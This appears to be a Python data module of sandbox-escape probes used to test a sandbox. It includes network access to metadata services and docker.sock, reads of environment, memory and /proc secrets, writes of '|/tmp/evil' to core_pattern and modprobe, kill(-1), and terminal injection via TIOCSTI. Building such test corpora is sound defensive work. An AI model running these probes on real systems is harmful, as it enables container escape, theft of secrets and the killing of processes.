"""Attacks that try to reach something outside the sandbox: network, environment, /proc, signals.

Each block is `## kind/name`, lines `#: parameter=one|other`, and a program that prints REACHED, or what it read, where it
got out. `@name@` is replaced by a parameter or by one of the host's targets (`sandbox_host`): the canary file with a secret, the
ports that listen, the process that must not be killed. Sources: the sections of namespaces(7), capabilities(7) and
seccomp(2) read as a list of what could be open; escapes of containers as published (open_by_handle_at, core_pattern,
release_agent, /proc/self/fd, leaked descriptors, TIOCSTI).
"""

# ruff: noqa: E501

REACH = r"""
## network/tcp
#: host=127.0.0.1|localhost|0.0.0.0|::1|::ffff:127.0.0.1
import socket
s = socket.create_connection(('@host@', @port@), 2)
s.sendall(b'in'); print('REACHED', s.recv(100))

## network/tcp_outside
#: host=169.254.169.254|8.8.8.8|1.1.1.1|10.0.0.1
#: port=80|443|53
import socket
socket.create_connection(('@host@', @port@), 1)
print('REACHED')

## network/udp
#: host=127.0.0.1|8.8.8.8|255.255.255.255
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.sendto(b'out', ('@host@', @udp_port@)); print('REACHED')

## network/raw
#: family=AF_INET|AF_INET6|AF_PACKET|AF_NETLINK|AF_VSOCK|AF_ALG|AF_TIPC|AF_CAN|AF_BLUETOOTH|AF_KEY
import socket
s = socket.socket(getattr(socket, '@family@', 16), socket.SOCK_RAW)
print('REACHED', s)

## network/unix_path
#: path=@unix@|/run/docker.sock|/var/run/dbus/system_bus_socket|/run/systemd/notify|/tmp/.X11-unix/X0
import socket
s = socket.socket(socket.AF_UNIX); s.connect('@path@'); print('REACHED', s.recv(100))

## network/unix_abstract
import socket
s = socket.socket(socket.AF_UNIX); s.connect('\0@abstract@'); print('REACHED', s.recv(100))

## network/pair_sends_elsewhere
import socket
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
a.sendto(b'out', '@unix_dgram@'); print('REACHED')

## network/pair_connects_elsewhere
import socket
a, b = socket.socketpair()
a.connect('@unix@'); print('REACHED', a.recv(100))

## network/listen
#: host=127.0.0.1|0.0.0.0|::
import socket
s = socket.create_server(('@host@', 0), family=socket.AF_INET6 if ':' in '@host@' else socket.AF_INET); s.settimeout(1)
print('REACHED', s.getsockname())

## network/http
#: url=http://127.0.0.1:@port@/|http://169.254.169.254/latest/meta-data/|https://pypi.org/|ftp://127.0.0.1/
import urllib.request
print('REACHED', urllib.request.urlopen('@url@', timeout=2).read(100))

## network/names
#: name=localhost|example.com|metadata.google.internal|pypi.org
import socket
found = socket.getaddrinfo('@name@', 80)
socket.socket(found[0][0], socket.SOCK_STREAM).connect(found[0][4]); print('REACHED')

## network/libc
#: call=socket|syscall
import ctypes
libc = ctypes.CDLL(None)
fd = libc.socket(2, 1, 0) if '@call@' == 'socket' else libc.syscall(41, 2, 1, 0)
if fd >= 0: print('REACHED', fd)

## network/machine_code
import ctypes, mmap
# mov eax,41; mov edi,2; mov esi,1; xor edx,edx; syscall; ret
code = bytes.fromhex('b829000000bf02000000be0100000031d20f05c3')
m = mmap.mmap(-1, 4096, prot=7); m.write(code)
f = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
fd = f()
if fd >= 0: print('REACHED', fd)

## network/machine_code_32_bits
import ctypes, mmap
# mov eax,359 (socket of i386); mov ebx,2; mov ecx,1; xor edx,edx; int 0x80; ret
code = bytes.fromhex('53b867010000bb02000000b90100000031d2cd805bc3')
m = mmap.mmap(-1, 4096, prot=7); m.write(code)
f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
fd = f()
if fd >= 0: print('REACHED', fd)

## network/asyncio
import asyncio
async def go():
    reader, writer = await asyncio.open_connection('127.0.0.1', @port@); return await reader.read(100)
print('REACHED', asyncio.run(go()))

## network/given_descriptors
import os, socket
for fd in range(3, 256):
    try:
        s = socket.socket(fileno=fd)
    except OSError:
        continue
    print('REACHED', fd, s)

## network/passed_descriptors
import os, socket
for fd in range(0, 64):
    try:
        s = socket.fromfd(fd, socket.AF_UNIX, socket.SOCK_SEQPACKET); s.settimeout(0.2)
        print('REACHED', socket.recv_fds(s, 100, 4))
    except OSError:
        pass

## environment/names
import os
print(dict(os.environ), os.environb, os.getenv('@secret_name@'))
if '@secret_name@' in os.environ: print('REACHED')

## environment/libc
import ctypes
libc = ctypes.CDLL(None); libc.getenv.restype = ctypes.c_char_p
print(libc.getenv(b'@secret_name@'))
p = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ'); n = 0
while p[n]: print(p[n]); n += 1

## environment/stack
#: words=2000|20000|200000
import ctypes, re
libc = ctypes.CDLL(None)
start = ctypes.cast(ctypes.c_void_p.in_dll(libc, '__libc_stack_end') if hasattr(libc, 'x') else ctypes.c_void_p.in_dll(ctypes.CDLL('ld-linux-x86-64.so.2'), '__libc_stack_end'), ctypes.c_void_p).value
data = b''
for n in range(0, @words@, 512):
    data += ctypes.string_at(start + n, 512)
    print(re.findall(rb'[A-Z_]{4,}=[^\0]{1,80}', data)[-3:], flush=True)

## environment/heap
import gc, sys
seen = []
for thing in gc.get_objects():
    for value in (thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()):
        if type(value) in (str, bytes) and ('SECRET' in str(value) or 'swordfish' in str(value)): seen.append(str(value)[:200])
print([text for text in seen if 'print(' not in text])

## environment/frames
import sys
frame = sys._getframe()
while frame:
    print({name: str(value)[:60] for name, value in {**frame.f_globals, **frame.f_locals}.items() if 'secret' in name.lower() or 'swordfish-1' in str(value)[:300]})
    frame = frame.f_back

## environment/memory_of
#: start=id(object())|id(__builtins__)|id([].append)
import ctypes
base = @start@ & ~0xfffff
for n in range(0, 1 << 20, 4096):
    page = ctypes.string_at(base + n, 4096)
    at = page.find(b'swordfish')
    if at >= 0: print(page[at:at + 60])

## environment/words
import sys
print(sys.argv, sys.orig_argv, sys.path, sys.flags, sys.executable)
if any('@canary_folder@' in str(word) for word in (*sys.argv, *sys.orig_argv)): print('REACHED')

## environment/descriptors
import os
for fd in range(0, 1024):
    try:
        os.set_blocking(fd, False); print(fd, os.read(fd, 2000), os.pread(fd, 2000, 0))
    except OSError:
        pass

## environment/users
import os, pwd, socket
if os.uname().nodename == '@hostname@' or socket.gethostname() == '@hostname@': print('REACHED the name of the host')
if pwd.getpwall(): print('REACHED', pwd.getpwall())
print('REACHED', os.getlogin())

## proc/read
#: path=1/environ|1/cmdline|1/root@canary@|self/root@canary@|self/environ|self/fd|self/maps|self/mounts|@victim@/environ|@victim@/cmdline|@victim@/cwd|@host@/environ|kallsyms|net/tcp|sys/kernel/core_pattern|mounts|kcore|keys|1/cwd|self/cwd/../../..@canary@|thread-self/root|cpuinfo|meminfo
import os
path = '/proc/@path@'
print('REACHED', os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(300))

## proc/write
#: path=sys/kernel/core_pattern|sysrq-trigger|sys/vm/drop_caches|self/mem|1/mem|@victim@/mem|self/uid_map|self/oom_score_adj|sys/kernel/modprobe|sys/fs/binfmt_misc/register|@victim@/oom_score_adj|sys/kernel/hostname
open('/proc/@path@', 'w').write('|/tmp/evil')
print('REACHED')

## proc/cgroup
#: path=/sys/fs/cgroup/release_agent|/sys/fs/cgroup/cgroup.procs|/sys/fs/cgroup/memory.max|/sys/kernel/uevent_helper|/sys/fs/bpf|/sys/class/net|/sys/firmware|/sys/power/state
import os
print('REACHED', os.listdir('@path@') if os.path.isdir('@path@') else open('@path@', 'r+').read(10))

## proc/other_processes
#: call=101,16,@victim@,0,0|101,0x4206,@victim@,0,0|310,@victim@,0,0,0,0,0|311,@victim@,0,0,0,0,0|312,@victim@,@victim@,0,0,0|434,@victim@,0|302,@victim@,7,0,0|203,@victim@,8,b'\1'*8|141,0,@victim@,19|144,@victim@,0,b'\0'*8|251,1,@victim@,0|256,@victim@,0,0,0|279,@victim@,0,0,0,0,0
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
done = libc.syscall(@call@)
if done >= 0: print('REACHED', done)

## signals/kill
#: target=@victim@|@host@
#: number=9|15|19|1
import os
os.kill(@target@, @number@); print('REACHED')

## signals/group
#: target=@victim@|@host@|1
#: number=9|19
import os
try: os.killpg(@target@, @number@)
except PermissionError: print('seen')
else: print('REACHED' if @target@ != 1 else 'own')

## signals/everybody
#: number=9|19
import os
os.kill(-1, @number@)

## signals/init
#: number=9|11|19
import os
os.kill(1, @number@); import time; time.sleep(0.05); print('alive')

## signals/thread
#: call=200,@victim@,9|234,@victim@,@victim@,9|129,@victim@,9,b'\0'*128|297,@victim@,@victim@,9,b'\0'*128|424,3,9,0,0
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(@call@) == 0: print('REACHED')

## signals/owner_of_descriptor
#: target=@victim@|@host@
import fcntl, os, socket
a, b = socket.socketpair()
fcntl.fcntl(a, 8, @target@); fcntl.fcntl(a, 10, 9); fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
b.send(b'x')

## signals/ignore_all
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass

## signals/catch_limits
import resource, signal
signal.signal(signal.SIGXCPU, lambda *_: None)
try: resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); print('REACHED')
except (OSError, ValueError): pass
while True: pass

## signals/terminal
#: request=0x5412|0x541c|0x5410|0x540e|0x5423
import fcntl
for fd in (0, 1, 2):
    try: fcntl.ioctl(fd, @request@, b'\n'); print('REACHED')
    except OSError: pass
"""
